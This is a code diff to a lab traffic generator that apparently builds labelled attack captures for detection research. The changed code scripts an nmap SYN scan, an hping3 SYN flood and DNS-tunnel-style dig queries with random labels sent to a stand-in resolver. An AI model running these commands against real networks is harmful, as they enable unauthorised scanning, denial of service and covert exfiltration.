@@ -150,13 +150,21 @@ class Builder:
         vm = self.by_tenant[tenant]
         t0 = round(r.uniform(0.5, 1.5), 3)
         dur = length - t0 - 1.5
+        def remote(*shorts):
+            # a target on another hypervisor than the attacker, so the attack crosses the underlay (traffic between
+            # two VMs of one hypervisor stays on that hypervisor's bridge and is not in the underlay capture)
+            cands = [vm[s] for s in shorts if vm[s]["hv"] != a["hv"]]
+            return cands[0] if cands else vm[shorts[0]]
+
         if kind == "portscan":
-            a, tgt = vm["ws1"], vm["db1"]
+            a = vm["ws1"]
+            tgt = remote("db1", "api1", "web1", "web2")
             argv = ["nmap", "-n", "-Pn", "-sS", "-p", "1-1024", "--max-rate", "150", "--max-retries", "1",
                     tgt["ip"]]
             target, notes = tgt["ip"], "TCP SYN scan ports 1-1024, max 150 probes/s"
         elif kind == "synflood":
-            a, tgt = vm["bak1"], vm["web1"]
+            a = vm["bak1"]
+            tgt = remote("web1", "web2")
             count = 2500
             argv = ["hping3", "-q", "-S", "-p", "80", "-c", str(count), "-i", "u2000", tgt["ip"]]
             target, notes = f"{tgt['ip']}:80", f"hping3 SYN flood, {count} SYNs at ~500/s, real source address"
@@ -195,14 +203,15 @@ class Builder:
                 for _ in range(per):
                     l1 = "".join(r.choice(alphabet) for _ in range(r.randint(48, 62)))
                     l2 = "".join(r.choice(alphabet) for _ in range(r.randint(20, 40)))
-                    qs.append(f"{l1}.{l2}.{seq:04x}.{labdef.TUNNEL_DOMAIN} TXT")
+                    qtype = "TXT" if r.random() < 0.3 else "A"
+                    qs.append(f"{l1}.{l2}.{seq:04x}.{labdef.TUNNEL_DOMAIN} {qtype}")
                     seq += 1
                 cmds.append("dig +time=1 +tries=1 @203.0.113.53 " + " ".join(qs) + " >/dev/null")
                 if b < batches - 1:
                     cmds.append(f"sleep {r.uniform(0.8, 1.4):.3f}")
             argv = ["bash", "-c", "; ".join(cmds)]
             target = "203.0.113.53:53"
-            notes = f"{batches * per} TXT queries with long random labels under {labdef.TUNNEL_DOMAIN}"
+            notes = f"{batches * per} A/TXT queries with long random labels under {labdef.TUNNEL_DOMAIN}"
         elif kind == "lateral":
             a = vm["web2"]
             targets = [v["ip"] for v in vm.values() if v["name"] != a["name"]] + ["10.0.0.13", "10.0.0.22",
